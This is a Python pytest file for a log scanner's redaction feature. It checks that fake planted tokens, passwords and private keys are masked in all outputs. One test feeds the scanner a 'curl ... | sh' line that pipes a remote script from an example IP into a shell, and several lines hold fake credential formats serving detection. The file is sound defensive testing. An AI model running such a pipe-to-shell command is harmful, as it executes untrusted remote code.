"""Redaction: unit behaviour, and no planted secret in any output (CLI JSON and text, findings, events, report)."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import plotly.graph_objects as go
import pytest
from click.testing import CliRunner

from tests.logscan.conftest import MULTIFORMAT
from workbench.analysis import AnalysisContext
from workbench.case import Case
from workbench.cli import cli
from workbench.collect import collect_evidence
from workbench.logscan import Scanner, analyse, render
from workbench.rulepack.redact import MARK, mask, redact, redact_lines

# every fake secret planted in ci-multiformat.log (see tests/data/logs/make_fixtures.py)
SECRETS = [
    "hf_Xq7LmN2pR9sT4vW6yZ1aB3cD5eF8gH0jK2",
    "Pr0d-S1gn!ng-9x",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
    "QyNTUxOQAAACDvX3mL2k9pQ7rS1tU4vW6xY8zA0bC2dE4fG6hI8jK0lAAAAJgAbCdEfGhI",
    "ghp_R4nd0mT0k3nF0rT3st1ngOnly01234567890",
    "Mirr0r-Pa55w0rd",
    "hunter2-prod-db",
]


def _leaks(text: str) -> list[str]:
    """Secrets (or any 12-character piece of one) found in text."""
    return [s for s in SECRETS if any(s[i : i + 12] in text for i in range(len(s) - 11))]


def test_planted_secrets_are_in_the_fixture() -> None:
    text = MULTIFORMAT.read_text(encoding="utf-8")
    assert _leaks(text) == SECRETS  # the test below is meaningful only if they really are there


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh", "HF_TOKEN=hf_Ab…[redacted]"),
        ("  COSIGN_PASSWORD: c0s1gn-Pr0d-7f3a91!", "  COSIGN_PASSWORD: …[redacted]"),
        ("DB_PASSWORD=hunter2-prod", "DB_PASSWORD=…[redacted]"),
        ("id AKIAIOSFODNN7EXAMPLE ok", "id AKIAIO…[redacted] ok"),
        ("https://bot:S3cr3t-Pa55@pypi.acme.internal/simple", "https://bot:…[redacted]@pypi.acme.internal/simple"),
        ("token: ***", "token: ***"),
        ("nothing secret here", "nothing secret here"),
    ],
)
def test_redact_examples(text: str, expected: str) -> None:
    assert redact(text) == expected
    assert redact(redact(text)) == expected  # idempotent


def test_mask_never_keeps_more_than_a_third() -> None:
    assert mask("abcdef", 5) == "ab" + MARK
    assert mask("hf_" + "x" * 34, 5) == "hf_xx" + MARK


def test_private_key_blocks_in_text_json_and_context() -> None:
    body = "MHcCAQEEIBkg4LVWM9nuwNSk3yByxZpYRTBnVJk5oBvqH3Mfo8r0oAoGCCqGSM49"
    pem = f"-----BEGIN EC PRIVATE KEY-----\n{body}\n-----END EC PRIVATE KEY-----"
    assert redact(pem) == f"-----BEGIN EC PRIVATE KEY-----\n{MARK}\n-----END EC PRIVATE KEY-----"
    escaped = json.dumps({"key": pem})
    assert "MHcCAQEE" not in redact(escaped) and "MHcCAQEE" in escaped
    # a context window that starts inside a block: bare key lines are still masked, hex digests are not
    lines = ["2026-11-14T03:11:30.001Z " + SECRETS[3], "sha256 " + "0123456789abcdef" * 4, "ok"]
    assert redact_lines(lines) == ["2026-11-14T03:11:30.001Z " + MARK, lines[1], "ok"]


def test_step_names_are_redacted_too() -> None:
    data = b"##[group]Run curl -s https://bot:S3cr3tPa55w0rd@203.0.113.7/x | sh\ncurl -s https://203.0.113.7/x | sh\n"
    result = Scanner().scan_stream(io.BytesIO(data), "x.log")
    expected = [(1, "exec.remote-script-to-shell"), (1, "secret.url-credentials"), (2, "exec.remote-script-to-shell")]
    assert [(m.line, m.rule_id) for m in result.matches] == expected
    assert {m.group for m in result.matches} == {"Run curl -s https://bot:…[redacted]@203.0.113.7/x | sh"}


def test_no_secret_in_cli_outputs() -> None:
    runner = CliRunner()
    as_json = runner.invoke(cli, ["scan-logs", "--json", str(MULTIFORMAT)])
    as_text = runner.invoke(cli, ["scan-logs", str(MULTIFORMAT)])
    assert as_json.exit_code == 0 and as_text.exit_code == 0
    doc = json.loads(as_json.stdout)
    assert len(doc["matches"]) == 18
    assert _leaks(as_json.output) == [] and _leaks(as_text.output) == []


def test_no_secret_in_findings_events_or_report(tmp_path: Path) -> None:
    case_dir = tmp_path / "case"
    (case_dir / "logs").mkdir(parents=True)
    shutil.copy(MULTIFORMAT, case_dir / "logs" / "pipeline.log")
    case = Case.open(case_dir)
    result = analyse(AnalysisContext(case=case, evidence=collect_evidence(case)))
    assert len(result.events) == 17 and len(result.findings) == 16
    outputs = [json.dumps([f.to_dict() for f in result.findings]),
               json.dumps([e.to_dict() for e in result.events]),
               json.dumps([e.to_timesketch() for e in result.events]),
               result.data["matches"].to_json(date_format="iso"), result.summary]  # fmt: skip
    items = render(result)
    outputs += [item.to_json() if isinstance(item, go.Figure) else item for item in items]
    assert any(isinstance(item, go.Figure) for item in items)
    assert [_leaks(o) for o in outputs] == [[]] * len(outputs)


def test_exposed_credentials_are_fingerprinted_never_kept(tmp_path: Path) -> None:
    """The same token on several lines is one fingerprint; two tokens are two; the value appears nowhere."""
    import hashlib

    one, two = "hf_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7", "hf_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3"
    lines = [f"2026-11-14T03:0{i}:00Z HF_TOKEN={one}" for i in range(3)] + [f"2026-11-14T03:09:00Z token {two}"]
    case_dir = tmp_path / "case"
    (case_dir / "logs").mkdir(parents=True)
    (case_dir / "logs" / "ci.log").write_text("\n".join(lines) + "\n", encoding="utf-8")
    case = Case.open(case_dir)
    result = analyse(AnalysisContext(case=case, evidence=collect_evidence(case)))
    (secret,) = [f for f in result.findings if f.category == "secret_exposed"]
    expected = [f"sha256:{hashlib.sha256(t.encode()).hexdigest()[:12]}" for t in (one, two)]
    assert secret.evidence["fingerprints"].split(",") == expected
    doc = json.dumps([f.to_dict() for f in result.findings])
    assert one not in doc and two not in doc
    assert all("fingerprints" not in f.evidence for f in result.findings if f.category != "secret_exposed")


# one line per credential format of the issue: (text, what must be gone, what must stay)
FORMATS = [
    ("SLACK_BOT_TOKEN=xoxb-2718281828459-3141592653589-Lk8Jh7Gf6Ds5Aq4Wz3Xe2Rc1", "Lk8Jh7Gf6Ds5", "xoxb-"),
    ("xoxp-2718281828-2718281828-3141592653589-0a1b2c3d4e5f60718293a4b5c6d7e8f9", "0a1b2c3d4e5f", "xoxp-"),
    ("xoxa-2-2718281828-3141592653589-0a1b2c3d4e5f60718293a4b5c6d7e8f9", "0a1b2c3d4e5f", "xoxa-"),
    ("xapp-1-A05KJQ2RD1Z-6021504237410-9f8e7d6c5b4a39281706f5e4d3c2b1a0", "9f8e7d6c5b4a", "xapp-"),
    ("post https://hooks.slack.com/services/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", "Zx8Cv7Bn6Mq5",
     "hooks.slack.com/services/"),
    ("gho_Vq3Lm8Ns2Kd7Hf4Tg9Rj1Wb6Xc5Ye0Za3Pu8 ghu_Vq3Lm8Ns2Kd7Hf4Tg9Rj1Wb6Xc5Ye0Za3Pu9", "Ns2Kd7Hf4Tg9", "gho_"),
    ("GITLAB_TOKEN=glpat-Mn4Bv5Cx6Zl7Kj8Hg9Fd", "Zl7Kj8Hg9Fd", "glpat-"),
    ("git clone https://oauth2:glpat-Mn4Bv5Cx6Zl7Kj8Hg9Fd@gitlab.acme.internal/x.git", "Zl7Kj8Hg9Fd", "oauth2:"),
    ("gitlab-runner register --token glrt-t1_Aq2Sw3De4Fr5Gt6Hy7Ju8K", "De4Fr5Gt6Hy7", "glrt-"),
    ("//registry.npmjs.org/:_authToken=npm_Rt5Yu6Io7Pa8Sd9Fg0Hj1Kl2Zx3Cv4Bn5Mq6", "Sd9Fg0Hj1Kl2", "npm_"),
    ("aws_session_token = IQoJb3JpZ2luX2VjEPz0Qa9Ws8Ed7Rf6Tg5Yh4Uj3Ik2Ol1Pm0Nn9Bb8Vv7Cc6Xx5Zz4", "Ws8Ed7Rf6Tg5",
     "token = "),
    ("GOOGLE_API_KEY=AIzaSyLp5Ko6Ji7Hu8Gy9Ft0Dr1Se2Wa3Qz4Xc5", "Ji7Hu8Gy9Ft0", "AIzaSy"),
    ('"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDf\\n-----END',
     "BADANBgkqhki", "-----BEGIN PRIVATE KEY-----"),
    ("AccountName=acme;AccountKey=Qz8Wx7Ec6Rv5Tb4Yn3Um2Ik1Ol0Pa9Sd8Df7Gh6Jk5Lq4Wr3Et2Yu1Io0Pz9Xm8Cn7Vb6==;",
     "Yn3Um2Ik1Ol0", "AccountKey="),
    ("https://a.blob.core.windows.net/m/x.bin?sv=2022-11-02&sp=r&sig=Hq2Jw3Ke4Lr5Mt6Ny7Pu8Qi9Ro0Sp1%2BTa2",
     "Lr5Mt6Ny7Pu8", "&sig="),
    ("DATABASE_URL=postgres://feast:Pg7Url.Pw-5521@10.0.4.12:5432/features", "Pg7Url.Pw-5521", "postgres://feast:"),
    ("mysql://mlflow:My4Sql.Pass-6632@db/mlflow", "My4Sql.Pass-6632", "@db/mlflow"),
    ("mongodb+srv://trainer:Mg2Db.Key-7743@cluster0.ab1cd.mongodb.net/runs", "Mg2Db.Key-7743", "mongodb+srv://"),
    ("REDIS_URL=redis://:Rd9Cache.Pw-8854@cache:6379/0", "Rd9Cache.Pw-8854", "redis://:"),
    ("env PGPASSWORD=Pg-Env-Pw-9965 psql -h db", "Pg-Env-Pw-9965", "PGPASSWORD="),
    ("export MYSQL_PASSWD=Ms-Passwd-1076", "Ms-Passwd-1076", "MYSQL_PASSWD="),
    ("GITHUB_WEBHOOK_SECRET=Wh-Secret-2187", "Wh-Secret-2187", "GITHUB_WEBHOOK_SECRET="),
    ("id_token=eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1UIn0.eyJzdWIiOiJyZXBvOmFjbWUifQ.Zm9yZ2VkLXNpZ25hdHVyZQ", "eyJzdWIiOiJy",
     "id_token="),
]  # fmt: skip


@pytest.mark.parametrize(("text", "gone", "kept"), FORMATS, ids=[f[2] for f in FORMATS])
def test_every_credential_format_is_redacted(text: str, gone: str, kept: str) -> None:
    out = redact(text)
    assert gone not in out and kept in out and MARK in out
    assert redact(out) == out  # idempotent


@pytest.mark.parametrize(
    "text",
    [
        "password: ********", "PGPASSWORD=$PGPASSWORD psql", "token: env://HF_TOKEN", "Authorization: Bearer <token>",
        "DATABASE_URL=postgres://user:password@localhost/db", "usage: mlflow login --password PASSWORD",
        "PASSWORD=your_password_here", "set SLACK_BOT_TOKEN to xoxb-your-token-here", "AccountKey=<storage-key>",
        "tokens look like glpat-xxxx", "ci ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart serve",
        "sha256 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "PWD=/home/ci/build",
    ],
)  # fmt: skip
def test_placeholders_and_documentation_are_left_alone(text: str) -> None:
    assert redact(text) == text


def test_a_pem_key_after_a_private_key_label_is_redacted_whole() -> None:
    """The label rule leaves the PEM header to the key-block redaction, so the body lines are masked too."""
    body = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw"
    out = redact(f"private_key: -----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----")
    assert "MIIEowIBAAKC" not in out and "-----BEGIN RSA PRIVATE KEY-----" in out


def test_at_most_a_third_of_any_secret_is_kept() -> None:
    """Every shipped credential rule, on each of its examples: no piece of the secret longer than a third is left."""
    from workbench.rulepack.redact import Redactor
    from workbench.rulepack.rules import builtin_rules

    checked = 0
    for rule in builtin_rules().secret_rules:
        for example in rule.examples_match:
            secret = rule.text_regex.search(example).group("secret")
            if not secret:
                continue
            out = Redactor([rule], backend="none").redact(example)
            width = len(secret) // 3 + 1
            assert not [secret[i : i + width] for i in range(len(secret) - width + 1) if secret[i : i + width] in out]
            checked += 1
    assert checked >= 40
